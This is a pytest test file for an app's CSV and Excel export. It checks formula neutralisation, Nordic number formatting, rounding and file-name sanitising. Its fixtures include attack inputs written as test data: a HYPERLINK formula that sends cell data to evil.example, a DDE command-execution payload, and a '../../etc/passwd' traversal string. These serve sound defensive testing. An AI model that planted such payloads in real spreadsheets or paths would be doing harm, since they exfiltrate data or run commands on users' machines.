"""Every CSV Avtale writes is safe to open in a spreadsheet, and the app's Excel download
opens as a table in Excel with Nordic settings."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal
from types import ModuleType
from typing import Any

import numpy as np
import pandas as pd
import pytest

from avtale.csv_export import excel_csv, file_name, neutralise, write_csv
from avtale.settings import STREAMLIT_APP

BOM = b"\xef\xbb\xbf"

# (value, what is written)
NEUTRALISED = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
    ("+47 22 33 44 55", "'+47 22 33 44 55"),
    ("-5", "'-5"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\0=1+1", "'\0=1+1"),
    ("Nordlys AS", "Nordlys AS"),
    ("a=b", "a=b"),
    ("", ""),
    # Typed values are values: a negative amount stays a number a spreadsheet can sum.
    (-5, -5),
    (-5.5, -5.5),
    (Decimal("-1200.50"), Decimal("-1200.50")),
    (date(2025, 1, 31), date(2025, 1, 31)),
    (None, None),
]


@pytest.mark.parametrize(("value", "written"), NEUTRALISED)
def test_text_a_spreadsheet_would_run_gets_a_quote(value: object, written: object) -> None:
    assert neutralise(value) == written
    assert type(neutralise(value)) is type(written)


def test_plain_csv_neutralises_text_and_keeps_values() -> None:
    out = io.StringIO()
    write_csv(
        out,
        ["name", "=total", "month"],
        [("=cmd|' /C calc'!A0", Decimal("-12.50"), date(2025, 1, 31)), ("a, b", None, None)],
    )
    assert out.getvalue() == (
        "name,'=total,month\n'=cmd|' /C calc'!A0,-12.50,2025-01-31\n\"a, b\",,\n"
    )


def excel_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(BOM)
    text = content[len(BOM) :].decode("utf-8")
    assert text.endswith("\r\n")
    return [line.split(";") for line in text.removesuffix("\r\n").split("\r\n")]


# (value, is it money, the Excel cell)
EXCEL_CELLS = [
    (1234.5, True, "1234,50"),
    (2.675, True, "2,68"),  # half up on the decimal digits, not down on the binary value
    (0.125, True, "0,13"),
    (-0.125, True, "-0,13"),
    (-0.004, True, "0,00"),  # no "-0,00"
    (Decimal("10.005"), True, "10,01"),
    (1234, True, "1234"),
    (0.0123, False, "0,0123"),  # a rate keeps its digits
    (1e-07, False, "0,0000001"),  # never 1e-07, which Excel reads as text
    (-0.0, False, "0,0"),
    (float("nan"), True, ""),
    (float("inf"), False, ""),
    (None, False, ""),
    (True, False, "True"),
    (date(2025, 1, 31), False, "2025-01-31"),
    (datetime(2025, 1, 31), False, "2025-01-31"),
    (datetime(2025, 1, 31, 13, 5), False, "2025-01-31 13:05:00"),
    ("=1+1", False, "'=1+1"),
    ("Ørsta Bygg", False, "Ørsta Bygg"),
]


@pytest.mark.parametrize(("value", "money", "cell"), EXCEL_CELLS)
def test_excel_cells(value: object, money: bool, cell: str) -> None:
    header = ["amount" if money else "value", "next"]
    rows = excel_rows(excel_csv(header, [(value, "x")], money={"amount"}))
    assert rows == [header, [cell, "x"]]


def test_excel_csv_reads_back_as_the_rounded_table() -> None:
    content = excel_csv(
        ["customer", "mrr", "churn_rate", "month"],
        [
            ("Nordlys AS; Oslo", 1200.505, 0.0125, date(2025, 1, 31)),
            ("-Minus Kunde", -300.254, None, date(2025, 2, 28)),
        ],
        money={"mrr"},
    )
    assert excel_rows(content)[0] == ["customer", "mrr", "churn_rate", "month"]
    assert b'"Nordlys AS; Oslo"' in content  # a ; in text is quoted, not a new column
    table = pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")
    assert table.customer.tolist() == ["Nordlys AS; Oslo", "'-Minus Kunde"]
    assert table.mrr.tolist() == [1200.51, -300.25]
    assert table.churn_rate.tolist()[0] == 0.0125
    assert table.month.tolist() == ["2025-01-31", "2025-02-28"]


# (filters, file name)
FILE_NAMES = [
    ({}, "mrr_overview.csv"),
    ({"owner": (), "country": ()}, "mrr_overview.csv"),
    ({"owner": ("kari",), "country": ("NO",)}, "mrr_overview_owner-kari_country-NO.csv"),
    ({"country": ("NO", "SE")}, "mrr_overview_country-NO+SE.csv"),
    ({"owner": ("Åse Ødegård",)}, "mrr_overview_owner-Åse-Ødegård.csv"),
    ({"owner": ("../../etc/passwd",)}, "mrr_overview_owner-etc-passwd.csv"),
    ({"owner": ('a"b\\c\r\nd;e',)}, "mrr_overview_owner-a-b-c-d-e.csv"),
    ({"owner": ("???",)}, "mrr_overview_owner-blank.csv"),
    ({"owner": tuple(f"Owner number {n}" for n in range(12))}, "mrr_overview_owner-12-values.csv"),
]


@pytest.mark.parametrize(("filters", "name"), FILE_NAMES)
def test_the_file_name_carries_the_filters(filters: dict[str, Any], name: str) -> None:
    assert file_name("mrr_overview", filters) == name


def test_a_file_name_stays_short() -> None:
    filters = {column: ("x" * 60,) for column in ("owner", "country", "currency")}
    name = file_name("mrr_overview", filters, suffix="_excel.csv")
    assert len(name) <= 150 and name.endswith("_excel.csv")


@pytest.fixture
def charts(monkeypatch: pytest.MonkeyPatch) -> ModuleType:
    """The app's chart helpers, imported the way its pages do."""
    monkeypatch.syspath_prepend(str(STREAMLIT_APP.parent))
    from common import charts

    return charts


def app_frame() -> pd.DataFrame:
    """A table as the app's queries return them (pandas 3 dtypes, NaN, NaT)."""
    return pd.DataFrame(
        {
            "month": pd.to_datetime(["2025-01-01", "2025-02-01"]),
            "customer_name": pd.Series(["=2+5", "Nordlys AS"], dtype="str"),
            "mrr": [1200.505, np.nan],
            "logo_churn_rate": [0.0125, -0.0],
            "customers": [3, 4],
            "is_actual": [True, False],
        }
    )


def test_the_apps_plain_csv_is_neutralised_and_unrounded(charts: ModuleType) -> None:
    assert charts.csv_bytes(app_frame()).decode("utf-8") == (
        "month,customer_name,mrr,logo_churn_rate,customers,is_actual\n"
        "2025-01-01,'=2+5,1200.505,0.0125,3,True\n"
        "2025-02-01,Nordlys AS,,-0.0,4,False\n"
    )


def test_the_apps_excel_csv_rounds_its_amounts_only(charts: ModuleType) -> None:
    assert excel_rows(charts.excel_bytes(app_frame())) == [
        ["month", "customer_name", "mrr", "logo_churn_rate", "customers", "is_actual"],
        ["2025-01-01", "'=2+5", "1200,51", "0,0125", "3", "True"],
        ["2025-02-01", "Nordlys AS", "", "0,0", "4", "False"],
    ]
